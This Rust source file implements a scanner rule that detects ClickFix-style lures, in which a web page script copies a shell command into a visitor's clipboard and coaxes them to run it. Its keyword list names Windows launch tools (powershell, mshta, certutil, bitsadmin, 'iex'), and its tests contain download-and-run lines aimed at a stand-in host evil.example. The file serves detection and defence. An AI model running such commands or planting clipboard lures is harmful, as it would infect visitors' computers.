//! Rule `clipboard-lure`: a script puts a command into the clipboard for the visitor to run.

use super::support::{NewScript, new_scripts};
use super::{Detector, Findings, Found};
use crate::model::{Case, Confidence, Rule, Severity, Sink, StaticWords, Words};

/// # What it finds
///
/// A new script that puts text into the clipboard which a shell would run, or that writes to the clipboard and holds a whole
/// command line and the keys by which people are to paste it. Where it tells them to press Win+R, or holds the name of a
/// shell beside the keys, a person is asked.
///
/// # Why it matters
///
/// ClickFix pages show a fake robot check on hacked sites and have visitors run the attacker's command themselves. No
/// protection of the browser helps against it.
///
/// # Example
///
/// ```js
/// navigator.clipboard.writeText("powershell -w hidden -c …");
/// ```
///
/// # Known false alarms
///
/// Buttons that copy a link, an address or a code sample hold no command of Windows' shells and are no finding. Editors and
/// highlighters that know a shell's name and the keys of the clipboard are asked about.
///
/// # References
///
/// ClickFix (since 2024): more than 200 hacked sites a day in 2025.
pub(super) struct ClipboardLure;

static RULE: Rule = Rule {
    id: "clipboard-lure",
    title: StaticWords { en: "Lure to paste a command", ja: "コマンドを貼り付けさせる誘導" },
    why: StaticWords {
        en: "A script puts a command into the visitor's clipboard. With a fake check or update they are talked into running it.",
        ja: "スクリプトが閲覧者のクリップボードにコマンドを書き込みます。偽の認証や更新画面で、そのコマンドを実行させる手口です。",
    },
    first_step: StaticWords {
        en: "Take the page offline at once: whoever follows the lure infects his own computer. Keep a copy of the page and its script files, and ask who could change them.",
        ja: "案内に従った閲覧者の端末が感染するため、直ちに公開を止めてください。ページとスクリプトファイルの写しを残し、変更できた人を確認してください。",
    },
};

impl Detector for ClipboardLure {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn examine(&self, case: &Case, out: &mut Findings) {
        out.extend(new_scripts(case).iter().filter_map(judge));
    }
}

/// What starts a program from a command line.
const COMMANDS: [&str; 14] = [
    "powershell",
    "pwsh",
    "mshta",
    "msiexec",
    "cmd /c",
    "cmd.exe",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "wscript",
    "invoke-expression",
    "| iex",
    "|iex",
];

/// What people are told to press, to run a command and to paste it.
const RUN_KEYS: [&str; 5] = ["win + r", "win+r", "windows + r", "windows+r", "windowsキー"];
const PASTE_KEYS: [&str; 3] = ["ctrl + v", "ctrl+v", "貼り付け"];

fn judge(script: &NewScript) -> Option<Found> {
    if !script.report.sinks.contains(&Sink::Clipboard) {
        return None;
    }
    let copied = script.report.actions.iter().filter(|action| action.sink == Sink::Clipboard);
    let command = copied.map(|action| action.target.as_str()).find(|text| names(text));
    let texts = script.words();
    let told = |keys: &[&str]| texts.iter().any(|text| keys.iter().any(|key| text.contains(key)));
    let (runs, pastes) = (told(&RUN_KEYS), told(&PASTE_KEYS));
    let (severity, confidence) = match () {
        () if command.is_some() => (Severity::Critical, Confidence::Firm),
        () if (runs || pastes) && texts.iter().any(|text| holds_command_line(text)) => {
            (Severity::Critical, Confidence::Firm)
        }
        () if runs || (pastes && texts.iter().any(|text| names(text))) => (Severity::Medium, Confidence::Tentative),
        () => return None,
    };
    let words = Words::new(
        "a script puts a command into the visitor's clipboard",
        "スクリプトが閲覧者のクリップボードにコマンドを書き込みます",
    );
    let found = Found::new(severity, confidence, words).on(script.item);
    Some(match command {
        Some(command) => found.decoded(command),
        None => found,
    })
}

fn names(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    COMMANDS.iter().any(|word| lower.contains(word))
}

/// Whether a text in small letters holds more of a command line than the name of a program: an option, or an address.
fn holds_command_line(text: &str) -> bool {
    const NEAR: usize = 120;
    COMMANDS.iter().any(|word| {
        text.match_indices(word).any(|(at, _)| {
            let rest = text.get(at + word.len()..).unwrap_or_default();
            let rest = rest.get(..rest.floor_char_boundary(NEAR)).unwrap_or_default();
            let rest = rest.split(['\'', '"', '`', '\n']).next().unwrap_or_default();
            let after = rest.trim_start();
            let option = after.len() < rest.len() && after.starts_with(['-', '/']);
            option || word.ends_with("iex") || rest.contains("://")
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_line_is_more_than_the_name_of_a_program() {
        for text in ["x='powershell -w hidden -c 1'", "mshta https://evil.example/a", "irm evil.example | iex"] {
            assert!(holds_command_line(text), "{text}");
        }
        for text in ["['bash','powershell','sql']", "powershell: /^[a-z]/", "about powershell and more"] {
            assert!(!holds_command_line(text), "{text}");
        }
    }
}
